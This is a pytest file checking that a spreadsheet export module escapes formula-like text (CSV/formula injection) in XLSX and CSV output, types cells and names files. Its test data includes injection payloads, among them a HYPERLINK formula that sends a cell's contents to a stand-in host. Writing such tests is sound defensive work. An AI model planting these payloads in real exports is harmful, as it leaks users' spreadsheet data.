"""Every XLSX and CSV export goes through core.spreadsheets' writer: texts that start like a formula are escaped
(OWASP CSV injection), cells are typed (numbers, percentages, dates), and files are named after what and when."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from core.spreadsheets import SheetSpec, csv_bytes, export_filename, workbook_bytes

DANGEROUS = ['=HYPERLINK("http://x?d="&B3,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1+1"]
UNSAFE_START = ("=", "+", "-", "@", "\t", "\r")


def workbook_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_fields(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]


def assert_no_formula(cells) -> None:
    """No formula cell and no text a spreadsheet would read as one."""
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(UNSAFE_START), (cell.coordinate, cell.value)


def assert_no_formula_fields(fields: list[str]) -> None:
    for field in fields:
        assert not field.startswith(UNSAFE_START), field


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_starting_like_a_formula_is_a_quoted_text_cell_in_xlsx(text):
    data = workbook_bytes([SheetSpec("Tên", ["Họ và tên", text], [[text, 1]], caption=text)])
    cells = workbook_cells(data)
    assert_no_formula(cells)
    expected = "'" + text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    escaped = [cell for cell in cells if cell.value == expected]
    assert len(escaped) == 3 and all(cell.data_type == "s" for cell in escaped)  # caption, header, row


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_starting_like_a_formula_is_quoted_in_csv(text):
    fields = csv_fields(csv_bytes(["Họ và tên", text], [[text, -5]]))
    assert fields == ["Họ và tên", "'" + text, "'" + text, "-5"]


def test_numbers_dates_and_harmless_texts_are_written_as_they_are():
    data = workbook_bytes([SheetSpec("Số liệu", ["Xã", "Số hộ", "Chênh lệch", "Tỷ lệ", "Ngày", "Số định danh"],
                                     [["Bình Hải", 120, -3, 0.7667, date(2025, 5, 25), "051070000001"],
                                      ["Bình Châu", 80, 0, None, None, "051070000002"]],
                                     percent_columns=(3,), text_columns=(5,))])
    sheet = load_workbook(io.BytesIO(data)).active
    name, count, change, share, day, citizen = sheet[2]
    assert (name.value, name.data_type) == ("Bình Hải", "s")
    assert (count.value, count.data_type) == (120, "n") and change.value == -3
    assert share.value == 0.7667 and share.number_format == "0.00%"
    assert day.value.date() == date(2025, 5, 25) and day.number_format == "dd/mm/yyyy"
    assert (citizen.value, citizen.data_type) == ("051070000001", "s")
    assert sheet.column_dimensions["F"].number_format == "@"
    assert sheet["D3"].value is None and sheet["E3"].value is None


def test_csv_is_utf8_with_a_bom_and_crlf_with_plain_numbers_and_dates():
    data = csv_bytes(["Xã", "Tỷ lệ", "Ngày"], [["Bình Hải", 0.7667, date(2025, 5, 25)], ["Bình Châu", None, None]])
    assert data == "\ufeffXã,Tỷ lệ,Ngày\r\nBình Hải,0.7667,25/05/2025\r\nBình Châu,,\r\n".encode()


def test_export_file_names_say_what_and_when():
    assert export_filename("ket-qua-bau-truong-thon", "D01", date(2025, 5, 25), "xlsx") == \
        "ket-qua-bau-truong-thon-d01-2025-05-25.xlsx"
